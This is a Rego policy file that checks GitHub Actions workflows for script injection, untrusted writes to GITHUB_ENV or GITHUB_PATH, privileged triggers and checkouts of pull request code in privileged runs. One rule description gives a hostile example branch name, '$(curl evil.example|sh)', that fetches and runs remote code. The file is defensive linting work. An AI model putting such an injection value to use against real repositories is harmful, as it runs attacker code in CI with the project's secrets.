package workflow

import data.lib.result
import data.lib.steps
import data.lib.untrusted

# METADATA
# title: Scripts do not contain what others write
# description: >-
#   GitHub pastes the value of an expression into the script before it runs. A branch called $(curl evil.example|sh), a title
#   or an input is then a part of the program. A variable of the environment is never read as code.
# related_resources:
# - ref: https://docs.github.com/en/actions/concepts/security/script-injections
# custom:
#   id: workflow-template-injection
#   severity: error
#   fix: "pass the value through env: and write \"$NAME\" in the script, or process.env.NAME in actions/github-script"
deny contains steps.at(rego.metadata.rule(), code.step, code.field, problem) if {
	some code in steps.code
	some reference in untrusted.inserted(code.text)
	problem := sprintf("%s becomes part of the script", [reference])
}

# METADATA
# title: Untrusted values do not reach the environment of later steps
# description: >-
#   Whoever chooses a line of GITHUB_ENV chooses variables such as LD_PRELOAD or NODE_OPTIONS, and whoever chooses one of
#   GITHUB_PATH chooses programs: both run code in each later step.
# related_resources:
# - ref: https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-commands#setting-an-environment-variable
# custom:
#   id: workflow-github-env
#   severity: error
#   fix: write the value to GITHUB_OUTPUT and read it where it is needed, or give it to that step through env
deny contains steps.at(rego.metadata.rule(), code.step, code.field, "an untrusted value is written to GITHUB_ENV or GITHUB_PATH") if {
	some code in steps.code
	some line in split(code.text, "\n")
	regex.match(`(>|\btee\b|Out-File|Add-Content).*\bGITHUB_(ENV|PATH)\b`, line)
	chosen_by_others(written(line, code.text))
}

# What goes into the file: the line, or the whole script where a group or a here-document is written.
written(line, text) := text if {
	regex.match(`^\s*[})]|<<`, line)
} else := line

chosen_by_others(text) if untrusted.reads(text)

# What a command prints there comes from somebody else's change.
chosen_by_others(text) if {
	count(steps.privileged) > 0
	regex.match("\\$\\(|`", text)
}

# METADATA
# title: Privileged runs are on purpose
# description: >-
#   pull_request_target and workflow_run start with the repository's secrets and a token that may write, for changes of
#   people who have neither. One careless step gives both away.
# related_resources:
# - ref: https://docs.github.com/en/actions/reference/security/securely-using-pull_request_target
# custom:
#   id: workflow-privileged-trigger
#   severity: warning
#   fix: use pull_request, or waive this with the reason why the workflow runs nothing of the change
warn contains result.at(rego.metadata.rule(), trigger.path, message) if {
	some trigger in steps.privileged
	message := sprintf("%s runs with secrets for changes of strangers", [trigger.event])
}

# METADATA
# title: Privileged runs do not check out the change
# description: >-
#   A workflow that starts with secrets, for a pull request, another workflow or a comment, and checks out the change runs its
#   build files, its tests and its hooks with them: anybody who may open a pull request has the secrets.
# related_resources:
# - ref: https://docs.github.com/en/actions/reference/security/securely-using-pull_request_target
# custom:
#   id: workflow-dangerous-checkout
#   severity: error
#   fix: build the change in a workflow on pull_request, and let this one read only the result
deny contains steps.at(rego.metadata.rule(), place.step, place.field, "checks out the change of a stranger in a privileged run") if {
	some trigger in steps.triggers
	trigger.event in {"pull_request_target", "workflow_run", "issue_comment"}
	some place in checkouts_of_changes
}

checkouts_of_changes contains {"step": found, "field": ["with", field]} if {
	some found in steps.found
	steps.is_checkout(found.step)
	some field in ["ref", "repository"]
	of_a_change(found.step["with"][field])
}

checkouts_of_changes contains {"step": found, "field": ["run"]} if {
	some found in steps.found
	regex.match(`\bgh\s+pr\s+checkout\b|\bgit\s.*\brefs/pull/`, found.step.run)
}

of_a_change(ref) if contains(ref, "refs/pull/")

of_a_change(ref) if {
	some reference in untrusted.references(ref)
	regex.match(`^github\.(head_ref|event\.pull_request\.(head|merge_commit_sha)|event\.workflow_run\.head_)`, reference)
}
